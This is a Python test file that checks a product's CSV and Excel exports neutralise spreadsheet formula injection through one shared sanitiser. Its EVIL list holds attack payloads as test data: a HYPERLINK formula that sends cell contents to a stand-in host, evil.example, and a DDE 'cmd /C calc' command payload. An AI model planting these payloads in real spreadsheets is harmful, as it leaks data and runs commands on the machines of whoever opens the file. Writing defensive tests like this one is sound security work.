"""Hardening 4: every CSV and Excel file the product writes neutralises formulas (one sanitiser)."""

from __future__ import annotations

import csv
import datetime as dt
import io

from fastapi.testclient import TestClient
from openpyxl import load_workbook

from siyu.platform.tabular import sanitise_cell
from tests.factories import World

EVIL = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]


def test_the_sanitiser_prefixes_formulas_drops_control_characters_and_keeps_numbers() -> None:
    assert [sanitise_cell(v) for v in EVIL] == ["'" + v for v in EVIL]
    assert sanitise_cell("＝1+1") == "'＝1+1"  # the full-width sign is read as a formula by WPS
    assert sanitise_cell("a\x00b\x01c\x02d\x7f") == "abcd"
    assert sanitise_cell("王小美 has a - in the middle") == "王小美 has a - in the middle"
    assert sanitise_cell(-5) == -5 and sanitise_cell(12.5) == 12.5 and sanitise_cell(None) is None
    assert sanitise_cell(dt.date(2026, 11, 11)) == dt.date(2026, 11, 11)


def _formula_cells(content: bytes) -> list[str]:
    book = load_workbook(io.BytesIO(content))
    return [
        f"{sheet.title}!{cell.coordinate}"
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]


def test_customer_and_audience_exports_write_no_live_formula(client: TestClient, world: World) -> None:
    records = [
        {"identities": [{"type": "member_card", "value": f"EVIL{i}"}], "name": name, "city": "公式城"}
        for i, name in enumerate(EVIL)
    ]
    made = client.post("/api/v1/customers/batch", headers=world.headers("owner"), json={"records": records})
    assert made.status_code == 200, made.text
    as_csv = client.get("/api/v1/customers/export?format=csv", headers=world.headers("owner"))
    rows = list(csv.reader(io.StringIO(as_csv.content.decode("utf-8-sig"))))
    names = {r[rows[0].index("name")] for r in rows[1:]}
    assert {"'" + v for v in EVIL} <= names
    assert as_csv.headers["cache-control"] == "no-store"
    as_xlsx = client.get("/api/v1/customers/export?format=xlsx", headers=world.headers("owner"))
    assert _formula_cells(as_xlsx.content) == []

    rule = {"type": "city", "values": ["公式城"]}
    audience = client.post(
        "/api/v1/audiences", headers=world.headers("owner"), json={"name": "公式", "rule": rule}
    ).json()
    client.post(
        f"/api/v1/audiences/{audience['id']}/snapshots", headers=world.headers("owner")
    ).raise_for_status()
    url = f"/api/v1/audiences/{audience['id']}/snapshots/1/export"
    xlsx = client.get(url, headers=world.headers("owner"))
    assert _formula_cells(xlsx.content) == []
    sheet = load_workbook(io.BytesIO(xlsx.content)).worksheets[0]
    written = sorted(r[1] for r in sheet.iter_rows(min_row=2, values_only=True))
    assert written == sorted("'" + v.replace("\r", "\n") for v in EVIL)  # XML reads CR back as LF
    text = client.get(url + "?format=csv", headers=world.headers("owner")).content.decode("utf-8-sig")
    assert not any(line.split(",")[1].startswith(("=", "+", "-", "@")) for line in text.splitlines()[1:])
